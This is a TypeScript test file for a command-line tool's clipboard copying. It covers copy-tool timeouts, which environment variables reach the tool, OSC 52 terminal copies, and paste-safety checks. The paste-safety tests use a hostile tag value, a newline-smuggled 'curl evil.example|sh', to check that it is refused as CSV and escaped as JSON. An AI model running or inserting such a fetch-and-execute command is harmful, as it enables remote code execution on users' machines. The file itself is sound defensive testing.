import {describe, expect, it, onTestFinished} from 'vitest';
import {copied, expectCopy, sent, sentText, sentWith} from '../helpers/clipboard/copy-run.ts';
import {isRunning} from '../helpers/program/processes.ts';
import type {Terminal} from '../helpers/terminal/terminal.ts';

describe('a tool that copies', () => {
	it('P1: that hangs is killed after 2 s, and the terminal is used', () =>
		expectCopy({tools: {xclip: 'sleep 600 & echo $$ $! > "$HOME/pids"; wait'}}, async run => {
			expect(run.said).toBe(sentWith('; xclip failed: timed out after 2 s'));
			expect(run.arrived).toEqual([copied]);
			expect(run.time).toBeGreaterThan(1900);
			const pids = run.left('pids')?.trim().split(' ') ?? [];
			expect(pids).toHaveLength(2);
			await expect.poll(() => pids.map(Number).filter(isRunning)).toEqual([]);
		}));

	it('P1: that stays in the background to serve the clipboard is not awaited', () => {
		const xclip = 'exec 3<&0; cat > "$HOME/copied"; sleep 600 <&3 & echo $! > "$HOME/pid"; exit 0';
		return expectCopy({tools: {xclip}}, ({said, arrived, left}) => {
			const pid = Number(left('pid'));
			onTestFinished(() => void process.kill(pid));
			expect({said, arrived}).toEqual({said: `copied ${copied}\n`, arrived: []});
			expect(left('copied')).toBe(copied);
			expect(isRunning(pid)).toBe(true);
		});
	});

	it('P2: gets only the text, and variables without a key or our options', () => {
		const variables = {NODE_OPTIONS: '--no-deprecation', ENVPICK_CLIPBOARD: 'auto', KEPT: 'yes'};
		const xclip = 'cat > "$HOME/copied"; echo "$*" > "$HOME/arguments"; env > "$HOME/environment"';
		return expectCopy({tools: {xclip}, variables}, ({left}) => {
			expect(left('copied')).toBe(copied);
			expect(left('arguments')).toBe('-selection clipboard -in\n');
			expect(left('environment')).toContain('KEPT=yes');
			expect(left('environment')).not.toMatch(/ENVPICK_|NODE_OPTIONS/);
		});
	});
});

describe('a copy by the terminal', () => {
	it('P3: is reported as sent and not confirmed, on and after the screen', () => {
		const use = async (terminal: Terminal) => {
			terminal.press('ctrl+y');
			await terminal.waitForText(`✓ ${sentText(copied)}`);
			expect(terminal.screen()).not.toContain('copied');
			terminal.press('enter');
		};
		return expectCopy({use}, ({said, arrived}) => {
			expect({said, arrived}).toEqual({said: sent, arrived: [copied, copied]});
		});
	});

	it('P7: is written whole and in no frame, while the screen is drawn', () => {
		const use = async (terminal: Terminal) => {
			for (let copies = 1; copies <= 5; copies++) {
				terminal.press('backspace', 'ctrl+y');
				terminal.type('u');
				terminal.resize(150 + copies, 20 + (copies % 2));
				await terminal.waitFor(() => terminal.clipboard.length === copies, `copy ${copies}`);
			}
			terminal.press('enter');
		};
		return expectCopy({use, arguments: ['--clipboard', 'osc52']}, ({arrived, written}) => {
			expect(arrived).toEqual(Array(6).fill(copied));
			const betweenFrames = written.replaceAll(/\x1b\[\?2026h.*?\x1b\[\?2026l/gs, '');
			expect(betweenFrames.split(`\u001b]52;c;${btoa(copied)}\u0007`)).toHaveLength(7);
			expect(written.split('\u001b]52;')).toHaveLength(7);
		});
	});
});

describe('a tag that acts when pasted', () => {
	const hostile = 'os:x\ncurl evil.example|sh\n';
	const shown = 'os:x^Jcurl evil.example|sh^J';

	it('P5: is refused, and the reason is given', () => {
		const use = async (terminal: Terminal) => {
			terminal.press('enter');
			await terminal.waitForText(`\`${shown}\` cannot be written as csv (it contains a control character); use json`);
			terminal.press('ctrl+c');
		};
		return expectCopy({tags: [hostile], use, exitCode: 130}, ({said, arrived}) => {
			expect({said, arrived}).toEqual({said: '', arrived: []});
		});
	});

	it('P5: is copied as JSON on one line, without a final line break', () =>
		expectCopy(
			{tags: [hostile], arguments: ['--as', 'json'], tools: {xclip: 'cat > "$HOME/copied"'}},
			({said, left}) => {
				const text = JSON.stringify([hostile]);
				expect(said).toBe(`copied ${text}\n`);
				expect(left('copied')).toBe(text);
			},
		));
});
